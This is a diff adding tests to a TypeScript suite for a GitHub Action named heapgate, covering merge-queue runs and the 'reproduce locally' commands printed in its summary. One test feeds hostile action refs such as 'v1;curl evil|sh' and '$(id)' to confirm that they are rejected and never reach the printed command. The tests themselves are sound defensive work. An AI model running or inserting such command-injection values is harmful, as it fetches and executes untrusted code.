@@ -214,6 +214,47 @@ describe('push to the default branch', () => {
   });
 });
 
+describe('merge queues', () => {
+  /** A merge_group run as GitHub starts it: on the queue's temporary branch, no pull request in the payload. */
+  function queued(store: string, profile: string, inputs: Record<string, string> = {}): Promise<ActionResult> {
+    const head = sha('f');
+    const ref = `refs/heads/gh-readonly-queue/main/pr-7-${HEAD}`;
+    return run(store, profile, {
+      eventName: 'merge_group',
+      payload: {
+        action: 'checks_requested',
+        merge_group: { head_sha: head, head_ref: ref, base_sha: B, base_ref: 'refs/heads/main' },
+        repository: { default_branch: 'main' },
+      },
+      sha: head,
+      ref,
+      inputs,
+    });
+  }
+
+  test("a queued group compares with the default branch's latest baseline, stores nothing and comments nowhere", async () => {
+    const store = await seededStore();
+    const before = server.requests.length;
+    const failed = await queued(store, REGRESSED);
+    expect(failed.code).toBe(1);
+    expect(failed.outputs.verdict).toBe('fail');
+    expect(failed.outputs['baseline-sha']).toBe(B);
+    expect(reportOf(failed).baseline).toMatchObject({ sha: B, branch: 'main', chosen: 'latest' });
+    expect(reportOf(failed).update).toBeNull();
+    expect(failed.summary).toMatch(/^### ❌ heapgate `cache`: fail/);
+    expect(server.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
+    expect((await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))?.current.sha).toBe(B);
+    expect(await new DirBaselineStore({ root: store }).pointer(SERIES, 'gh-readonly-queue/main/pr-7-' + HEAD)).toBe(
+      undefined,
+    );
+
+    // docs/action.md's merge-queue workflow: the queue reports, the pull request's check gates.
+    const reported = await queued(store, REGRESSED, { 'fail-on-regression': 'false' });
+    expect(reported.code).toBe(0);
+    expect(reported.outputs.verdict).toBe('fail');
+  });
+});
+
 describe('pull requests and the sticky comment', () => {
   test('a series the store lacks: no-baseline, with a warning and the comment naming the closest series', async () => {
     const store = await seededStore();
@@ -282,6 +323,47 @@ describe('pull requests and the sticky comment', () => {
     expect(same.code).toBe(0);
     expect(server.requests.slice(again).filter((q) => q.method !== 'GET' && q.path !== '/graphql')).toEqual([]);
     expect(same.outputs['comment-url']).toBe(fixed.outputs['comment-url']);
+  });
+
+  test("reproduce and seed commands run the action's own commit with npx when the runner names it, else npx heapgate", async () => {
+    const store = await seededStore();
+    const at = (repository: string, ref: string, inputs: Record<string, string> = {}): Promise<ActionResult> =>
+      run(store, REGRESSED, {
+        eventName: 'pull_request',
+        payload: prPayload({ number: 41 }),
+        sha: sha('e'),
+        ref: 'refs/pull/41/merge',
+        inputs,
+        env: { GITHUB_ACTION_REPOSITORY: repository, GITHUB_ACTION_REF: ref },
+      });
+    const pinned = await at('heapgate/heapgate', 'v1.2.3');
+    expect(pinned.outputs.verdict).toBe('fail');
+    expect(pinned.summary).toContain(
+      "Reproduce locally: `npx --yes 'github:heapgate/heapgate#v1.2.3' check " +
+        `${REGRESSED} --store ${store} --series cache --branch main`,
+    );
+    const seed = await at('heapgate/heapgate', 'feature/x', { series: 'other' });
+    expect(seed.outputs.verdict).toBe('no-baseline');
+    expect(seed.summary).toContain(
+      `\`npx --yes 'github:heapgate/heapgate#feature/x' baseline put ${REGRESSED} --store ${store} --series other`,
+    );
+    expect(reportOf(seed).message).toContain("npx --yes 'github:heapgate/heapgate#feature/x' baseline put");
+
+    const hostile: [string, string][] = [
+      ['heapgate/heapgate', 'v1;curl evil|sh'],
+      ['heapgate/heapgate', '../../other/repo'],
+      ['heapgate/heapgate', '$(id)'],
+      ['heapgate/heapgate', 'a'.repeat(101)],
+      ['heap gate/heapgate', 'v1'],
+      ['heapgate', 'v1'],
+      ['', ''],
+    ];
+    for (const [repository, ref] of hostile) {
+      const r = await at(repository, ref);
+      expect(r.outputs.verdict).toBe('fail');
+      expect(r.summary).toContain(`Reproduce locally: \`npx heapgate check ${REGRESSED} `);
+      expect(r.summary).not.toContain('github:');
+    }
   });
 
   test('the comment is found across pages, and a marker pasted by someone else is never edited', async () => {
